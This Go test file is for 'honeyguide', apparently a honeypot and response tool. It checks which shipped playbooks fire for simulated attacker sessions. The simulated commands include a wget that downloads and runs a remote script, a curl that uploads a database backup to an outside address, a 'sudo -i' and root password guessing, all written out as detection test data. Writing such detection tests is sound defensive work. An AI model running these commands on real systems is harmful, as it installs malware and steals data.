package pipeline_test

import (
	"context"
	"fmt"
	"slices"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/playbook"
	"honeyguide/internal/respond"
	"honeyguide/internal/state"
	"honeyguide/rules"
)

// A pen is an action that only writes down what it is asked.
type pen struct{ name string }

func (p pen) Plan(_ context.Context, r respond.Request) (honeyguide.Plan, error) {
	return honeyguide.Plan{Target: r.Target, Params: r.Params, State: honeyguide.PlanPlanned, Effect: p.name + " " + r.Target + " " + r.Params["title"]}, nil
}

func (pen) Apply(context.Context, honeyguide.Plan) (respond.Receipt, error) {
	panic("a rehearsal applies nothing")
}

// rehearse replays what is stored through the shipped playbooks.
func (w *world) rehearse() map[string]playbook.TrialBook {
	w.t.Helper()
	books, err := playbook.Load(rules.Playbooks, "playbooks")
	if err != nil {
		w.t.Fatal(err)
	}
	actions := map[string]respond.Action{}
	for _, name := range []string{"block_ip", "notify", "snapshot", "isolate", "task"} {
		actions[name] = pen{name}
	}
	trial := playbook.Trial{Books: books, Actions: actions, From: noon.AddDate(0, 0, -1), To: noon.AddDate(0, 0, 1)}
	before := w.found()
	res, err := trial.Run(w.t.Context(), frozen{w.state})
	if err != nil {
		w.t.Fatal(err)
	}
	if after := w.found(); fmt.Sprint(after) != fmt.Sprint(before) {
		w.t.Error("the rehearsal changed the state")
	}
	out := map[string]playbook.TrialBook{}
	for _, b := range res.Playbooks {
		if len(b.Faults) > 0 {
			w.t.Errorf("%s: %v", b.Playbook, b.Faults)
		}
		for _, s := range b.Steps {
			if s.Failed > 0 {
				w.t.Errorf("%s, %s: %v", b.Playbook, s.Step, s.Reasons)
			}
		}
		out[b.Playbook] = b
	}
	return out
}

// frozen is a store nobody may write to.
type frozen struct{ state.Store }

func (frozen) Update(context.Context, func(state.Tx) error) error {
	panic("a rehearsal writes nothing")
}

// TestShippedPlaybooksFire lets real events come in and looks which of the
// shipped playbooks they set off: those and no others.
func TestShippedPlaybooksFire(t *testing.T) {
	login := func(s *script) *script {
		return s.do(honeyguide.ActivityConnect).do(honeyguide.ActivityLoginSuccess, honeyguide.AttrUser, "root", honeyguide.AttrPassword, "1234")
	}
	for name, c := range map[string]struct {
		events func(w *world, s *script)
		want   []string
		acts   map[string]int // of one step, by playbook/step
	}{
		"a planted credential": {func(w *world, s *script) { s.out = w.story() }, []string{"honeytoken-used", "malware-drop"}, map[string]int{"honeytoken-used/tell": 1, "honeytoken-used/follow-up": 1, "honeytoken-used/block": 2}},
		"guessing": {func(_ *world, s *script) {
			s.do(honeyguide.ActivityConnect)
			for i := range 30 {
				s.do(honeyguide.ActivityLoginFailed, honeyguide.AttrUser, "root", honeyguide.AttrPassword, fmt.Sprint("pw", i))
			}
		}, []string{"brute-force"}, map[string]int{"brute-force/block": 1}},
		"malware": {func(_ *world, s *script) {
			login(s).command("cd /tmp && wget http://198.51.100.23/x.sh; chmod +x x.sh; ./x.sh")
		}, []string{"malware-drop"}, map[string]int{"malware-drop/block": 1, "malware-drop/keep-evidence": 1}},
		"rights": {func(_ *world, s *script) { login(s).command("sudo -i") }, []string{"privilege-escalation"}, map[string]int{"privilege-escalation/block": 1}},
		"data": {func(_ *world, s *script) {
			login(s).command("curl -F file=@/var/backups/all.sql http://198.51.100.23/up")
		}, []string{"exfiltration"}, map[string]int{"exfiltration/block": 1, "exfiltration/tell": 1}},
		"a broken cage": {func(_ *world, s *script) {
			s.do(honeyguide.ActivityViolation, honeyguide.AttrDetail, "tried to open a file")
		}, []string{"sensor-violation"}, map[string]int{"sensor-violation/isolate": 1, "sensor-violation/tell": 1}},
		"noise": {func(_ *world, s *script) {
			for i := range 40 {
				s.service = fmt.Sprint("decoy", i%12)
				s.do(honeyguide.ActivityConnect).do(honeyguide.ActivityClose)
			}
		}, []string{"noisy-scanner"}, map[string]int{"noisy-scanner/block": 1}},
		"one visit": {func(_ *world, s *script) { s.do(honeyguide.ActivityConnect).do(honeyguide.ActivityClose) }, nil, nil},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			s := &script{src: "203.0.113.50", service: "ssh", session: "sess-x", at: noon}
			c.events(w, s)
			w.add(s.out...)
			w.run()
			got := w.rehearse()
			var fired []string
			for id, b := range got {
				if b.Runs > 0 && b.Note == "" && id != "weekly-digest" {
					fired = append(fired, id)
				}
			}
			slices.Sort(fired)
			if !slices.Equal(fired, c.want) {
				for _, a := range w.found().alerts {
					t.Logf("%s %s %s", a.RuleID, a.Category, a.Severity)
				}
				for _, in := range w.found().incidents {
					t.Logf("%s %s %d alerts, proven %v", in.Key, in.Severity, in.AlertCount, in.Proven)
				}
				t.Errorf("fired %v, want %v", fired, c.want)
			}
			for key, n := range c.acts {
				if done := acts(got, key); done != n {
					t.Errorf("%s: %d acts, want %d", key, done, n)
				}
			}
		})
	}
}

func acts(got map[string]playbook.TrialBook, key string) int {
	for id, b := range got {
		for _, s := range b.Steps {
			if id+"/"+s.Step == key {
				return s.Acts
			}
		}
	}
	return -1
}

// The digest comes on Mondays and on no other day; noon is a Sunday.
func TestShippedDigestIsWeekly(t *testing.T) {
	w := newWorld(t)
	if got := w.rehearse()["weekly-digest"]; got.Runs != 1 || got.Examples[0].At.Weekday() != time.Monday || got.Steps[0].Acts != 1 {
		t.Errorf("%+v", got)
	}
}
